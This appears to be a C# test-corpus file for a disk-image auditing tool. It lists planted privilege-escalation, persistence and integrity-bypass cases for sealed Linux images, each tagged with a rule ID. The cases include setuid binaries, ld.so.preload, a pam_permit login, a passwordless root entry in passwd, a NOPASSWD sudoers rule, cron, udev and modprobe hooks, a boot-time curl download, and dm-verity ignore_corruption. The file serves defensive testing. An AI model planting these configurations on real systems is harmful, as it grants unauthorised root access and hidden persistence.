using Mantle.Formats.Bytes;
using Mantle.Formats.Tree;

namespace Mantle.Measure.Tests.Audit.Corpus;

/// <summary>Ways to more rights, to code that runs without being asked, and around verity.</summary>
internal static class PrivilegeAttacks
{
    private static readonly Guid s_data = new("0fc63daf-8483-4772-8e79-3d69d8477de4");

    public static IEnumerable<Attack> All =>
    [
        new("a set-user-ID program", "PRIV-001", "root:/usr/bin/x", Sealed.WithRootFile("usr/bin/x", TestElf.Program("x"), 0b100_111_101_101)),
        Changed("a capability on an innocent program", "PRIV-002", "usr/bin/service", node => node.ExtendedAttributes["security.capability"] = [1, 0, 0, 2, 0, 0, 32, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        Changed("a program that everybody may write", "PRIV-003", "usr/bin/service", node => node.Permissions = 0b111_111_111),
        Changed("the service owns its program", "PRIV-004", "usr/bin/service", node => node.UserId = 1000),
        File("a library in every program", "PRIV-005", "etc/ld.so.preload", "/usr/lib/x.so\n"),
        File("the loader looks where one can write", "PRIV-005", "etc/ld.so.conf.d/a.conf", "/var/lib/service\n"),
        File("PAM that asks nothing", "PRIV-006", "etc/pam.d/login", "auth sufficient pam_permit.so\n"),
        Program("sudo", "PRIV-007", "usr/bin/sudo"),
        new("the disk as a device elsewhere", "PRIV-008", "root:/usr/share/a", Sealed.WithRoot(tree => tree.Put("usr/share/a", new FileNode(FileKind.BlockDevice, 0b110_110_110) { DeviceMajor = 259 }))),
        Word("an overlay over the root", "PRIV-009", "systemd.volatile=overlay"),
        File("an overlay over the programs", "PRIV-009", "etc/fstab", "overlay /usr overlay lowerdir=/usr,upperdir=/run/u,workdir=/run/w 0 0\n"),
        new("a program beside the boot file", "PRIV-010", "esp:/EFI/BOOT/a.bin", Sealed.WithEspFile("EFI/BOOT/a.bin", TestElf.Static("x"))),

        File("a root without password", "ACCOUNT-001", "etc/passwd", "root::0:0::/:/usr/bin/x\n"),
        new(
            "an account with a key and a shell", "ACCOUNT-001", "root:/etc/passwd",
            Sealed.WithRootFile("etc/passwd", "root:*:0:0::/:/usr/sbin/nologin\nbackup:!:34:34::/:/usr/bin/service\n").WithRootFile("root/.ssh/authorized_keys", "x\n")),
        File("a hash in a copy of shadow", "ACCOUNT-002", "etc/shadow-", "root:$6$abc$def:1::::::\n"),
        File("a second root", "ACCOUNT-003", "etc/passwd", "root:*:0:0::/:/usr/sbin/nologin\nrootx:*:00:0::/:/usr/sbin/nologin\n"),
        File("accounts of a directory", "ACCOUNT-004", "etc/nsswitch.conf", "passwd: files sss\n"),
        File("a rule of sudo", "ACCOUNT-005", "etc/sudoers.d/90-cloud", "service ALL=(ALL) NOPASSWD:ALL\n"),

        File("a table of cron", "JOB-001", "etc/cron.d/a", "* * * * * root /usr/bin/service\n"),
        Unit("a timer", "JOB-002", "a.timer", "[Timer]\nOnBootSec=1h\n"),
        File("a program for each new disk", "JOB-003", "usr/lib/udev/rules.d/99-a.rules", "SUBSYSTEM==\"block\", ACTION==\"add\", RUN+=\"/usr/bin/service %k\"\n"),
        File("a command for a module", "JOB-004", "etc/modprobe.d/a.conf", "install dm-verity /usr/bin/service\n"),
        File("an interpreter for a format", "JOB-005", "usr/lib/binfmt.d/a.conf", ":a:E::txt::/usr/bin/service:\n"),
        new("a start script", "JOB-006", "root:/etc/rc.local", Sealed.WithRootFile("etc/rc.local", "#!/bin/sh\n", 0b111_101_101)),
        File("a hook of the DHCP client", "JOB-007", "etc/dhcp/dhclient-exit-hooks.d/a", "echo\n"),
        Program("a generator of units", "JOB-008", "usr/lib/systemd/system-generators/a"),
        Program("a generator of units before all others", "JOB-008", "etc/systemd/system-generators/systemd-a"),
        File("a program that loads modules", "JOB-009", "etc/sysctl.d/a.conf", "kernel.modprobe = /usr/bin/service\n"),

        Program("attached disks are mounted", "UNIT-001", "usr/libexec/udisks2/udisksd"),
        new(
            "a failed boot ends in a prompt", "UNIT-002", "root:/usr/lib/systemd/system/emergency.service",
            Sealed.WithRootFile("usr/lib/systemd/system/emergency.service", "[Service]\nExecStart=/usr/bin/x emergency\n")),
        Unit("a unit that is a script", "UNIT-004", "a.service", "[Service]\nExecStartPre=/usr/x/sh -c 'id'\nExecStart=/usr/bin/service\n"),
        Unit("an environment from a tmpfs", "UNIT-005", "a.service", "[Service]\nEnvironmentFile=-/run/a.env\nExecStart=/usr/bin/service\n"),
        Unit("a program from a data volume", "UNIT-006", "a.service", "[Service]\nExecStart=/var/lib/a/run\n"),
        Unit("a download at boot", "UNIT-007", "a.service", "[Service]\nExecStart=/usr/bin/x curl http://10.0.0.9/a\n"),

        new("no hash tree", "VERITY-001", "partition 2 (root-x86-64)", Sealed.WithoutVerity()),
        new("no root hash", "VERITY-002", Attack.Uki, Sealed.WithRootHashWord("")),
        new("a changed block", "VERITY-003", Attack.Uki, Sealed.WithDamagedRoot(bytes => bytes[^1] ^= 1)),
        Word("corruption is ignored", "VERITY-004", "dm-mod.create=\"root,,,ro,0 8 verity 1 a b 4096 4096 1 1 sha256 x y 1 ignore_corruption\""),
        new("a second root that nothing protects", "VERITY-001", "partition 4 (type 0fc63daf-8483-4772-8e79-3d69d8477de4)", Sealed.WithPartition(s_data, "data", PlantedImage.Erofs(tree => tree.Put("usr/bin/x", FileNode.Regular(ByteSource.FromMemory(TestElf.Program("x"))))))),
        new("a partition for data", "BOOT-003", "partition 4 (type 0fc63daf-8483-4772-8e79-3d69d8477de4)", Sealed.WithPartition(s_data, "data", ByteSource.Zeros(1 << 20))),
        new("a system extension on the ESP", "BOOT-002", "esp:/EFI/BOOT/BOOTX64.EFI.extra.d/a.raw", Sealed.WithEspFile("EFI/BOOT/BOOTX64.EFI.extra.d/a.raw", [1, 2, 3])),
    ];

    private static PlantedImage Sealed => PlantedImage.Sealed();

    private static Attack Word(string name, string rule, string word) => new(name, rule, Attack.Uki, Sealed.WithCommandLineWord(word));

    private static Attack File(string name, string rule, string path, string content) => new(name, rule, $"root:/{path}", Sealed.WithRootFile(path, content));

    private static Attack Program(string name, string rule, string path) => new(name, rule, $"root:/{path}", Sealed.WithRootProgram(path, TestElf.Program("x")));

    private static Attack Changed(string name, string rule, string path, Action<FileNode> change) => new(name, rule, $"root:/{path}", Sealed.WithRoot(tree =>
    {
        Assert.True(tree.TryFind(path, out FileNode? node));
        change(node);
    }));

    private static Attack Unit(string name, string rule, string unit, string content) => new(
        name, rule, $"root:/usr/lib/systemd/system/{unit}",
        Sealed.WithRootFile("usr/lib/systemd/system/default.target", $"[Unit]\nWants={unit}\n").WithRootFile($"usr/lib/systemd/system/{unit}", content));
}
